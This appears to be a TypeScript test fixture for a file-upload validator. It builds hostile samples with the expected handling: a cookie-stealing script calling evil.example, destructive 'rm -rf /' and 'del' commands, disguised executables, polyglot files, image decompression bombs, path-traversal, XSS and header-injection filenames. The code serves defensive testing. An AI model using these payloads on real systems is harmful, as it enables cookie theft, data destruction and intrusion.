import sharp from 'sharp';

/** What becomes of a file that somebody sends with bad intent, or that has broken on its way. */
export interface HostileFile {
  /** As its sender calls it. */
  sent: string;
  content: Buffer;
  /** The message of the refusal; undefined: it is taken. */
  refusal?: string;
  /** The name it is kept under, where that is another. */
  name?: string;
  kind?: string;
  isMismatched?: boolean;
  /** Whether the server draws it. */
  isDrawn?: boolean;
}

const NO_PROGRAM = 'Программы не принимаются';
const SCRIPT = '<script>fetch("https://evil.example/?"+document.cookie)</script>';
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${SCRIPT}<image href="https://evil.example/a.png"/></svg>`;

/** A picture that claims 30 000 × 30 000 dots in some dozens of bytes. */
function hugePng(small: Buffer): Buffer {
  const claimed = Buffer.from(small);
  claimed.writeUInt32BE(30_000, 16);
  claimed.writeUInt32BE(30_000, 20);
  return claimed;
}

/** The same as WebP, whose wider form writes sizes less one in three bytes. */
function hugeWebp(): Buffer {
  const chunk = Buffer.alloc(18);
  chunk.write('VP8X', 'latin1');
  chunk.writeUInt32LE(10, 4);
  chunk.writeUIntLE(29_999, 12, 3);
  chunk.writeUIntLE(29_999, 15, 3);
  const head = Buffer.from('RIFF\0\0\0\0WEBP', 'latin1');
  head.writeUInt32LE(4 + chunk.length, 4);
  return Buffer.concat([head, chunk]);
}

/** An installer of Windows: its container says what it is near its end. */
function installer(): Buffer {
  const bytes = Buffer.alloc(300_000);
  bytes.write('d0cf11e0a1b11ae1', 'hex');
  bytes.writeUInt16LE(9, 30);
  bytes.writeUInt32LE(400, 48);
  bytes.write('84100c0000000000c000000000000046', 401 * 512 + 80, 'hex');
  return bytes;
}

const pdf = (body: string) =>
  `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n${body}\ntrailer<</Root 1 0 R>>\n%%EOF`;
const zipEntry = (name: string) =>
  Buffer.concat([
    Buffer.from('PK\x03\x04\x14\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0', 'latin1'),
    Buffer.from([name.length, 0, 0, 0]),
    Buffer.from(name),
  ]);

const photoOf = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#3b82f6' } });

/** Files that open, draw or run something where they are believed, each with what becomes of it. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const jpeg = await photoOf(900, 600).jpeg().toBuffer();
  const png = await photoOf(10, 10).png().toBuffer();
  const gif = await photoOf(40, 30).gif().toBuffer();
  const text = (content: string) => Buffer.from(content);
  const programs: [string, Buffer][] = [
    ['setup.exe', text('x')],
    ['фото\u202egpj.exe', jpeg],
    ['счёт.pdf.EXE. ', text('%PDF-1.7')],
    ['ярлык.lnk', text('x')],
    ['exe.jpg', Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1')],
    ['msi.jpg', installer()],
    ['elf.jpg', Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(64)])],
    ['bat.jpg', text('@echo off\r\ndel /q *.*\r\n')],
    ['bat.txt', text('\ufeff@ECHO OFF\r\ndel /q *.*\r\n')],
    ['sh.txt', text('#!/bin/sh\nrm -rf /\n')],
    ['apk.zip', zipEntry('AndroidManifest.xml')],
  ];
  const page = `<!doctype html><html><body>${SCRIPT}</body></html>`;
  const names: [sent: string, name: string][] = [
    [`${'ж'.repeat(251)}.txt`, `${'ж'.repeat(196)}.txt`],
    ['..\\..\\x.txt', 'x.txt'],
    ['../../etc/passwd.txt', 'passwd.txt'],
    ['CON', 'CON'],
    ['con.txt', 'con.txt'],
    ['Й'.normalize('NFD') + 'од.txt', 'Йод.txt'],
    ['план\u202e\u200b\u0000.txt', 'план.txt'],
    ['<img src=x onerror=alert(1)>.txt', '<img src=x onerror=alert(1)>.txt'],
    ['а\r\nSet-Cookie: x=1.txt', 'а'],
  ];
  return [
    { sent: 'пустой.txt', content: Buffer.alloc(0), refusal: 'Файл пустой' },
    ...programs.map(([sent, content]) => ({ sent, content, refusal: NO_PROGRAM })),
    { sent: 'страница.html', content: text(page), kind: 'text' },
    { sent: 'страница.jpg', content: text(page), kind: 'text', isMismatched: true },
    { sent: 'рисунок.svg', content: text(SVG), kind: 'text' },
    { sent: 'рисунок.png', content: text(SVG), kind: 'text', isMismatched: true },
    {
      sent: 'gif-и-js.gif',
      content: Buffer.concat([gif, text('*/=1;alert(document.domain)//')]),
      kind: 'image',
      isDrawn: true,
    },
    { sent: 'gif-и-js.js.txt', content: gif, kind: 'image', isMismatched: true },
    { sent: 'pdf-и-html.pdf', content: text(pdf(page)), kind: 'pdf' },
    { sent: 'pdf-и-html.html', content: text(pdf(page)), kind: 'pdf', isMismatched: true },
    {
      sent: 'jpeg-и-zip.jpg',
      content: Buffer.concat([jpeg, zipEntry('a.txt')]),
      kind: 'image',
      isDrawn: true,
    },
    { sent: 'jpeg-и-zip.zip', content: jpeg, kind: 'image', isMismatched: true },
    { sent: 'бомба.png', content: hugePng(png), kind: 'image' },
    { sent: 'бомба.webp', content: hugeWebp(), kind: 'image' },
    { sent: 'половина.png', content: png.subarray(0, png.length >> 1), kind: 'image' },
    { sent: 'начало.jpg', content: jpeg.subarray(0, 20), kind: 'image' },
    { sent: 'половина.pdf', content: text(pdf('')).subarray(0, 60), kind: 'pdf' },
    { sent: 'скрипты.pdf', content: text(pdf('')), kind: 'pdf' },
    { sent: 'один байт.jpg', content: Buffer.from([0]), isMismatched: true },
    ...names.map(([sent, name]) => ({ sent, name, content: text(`Текст ${name}`), kind: 'text' })),
  ];
}
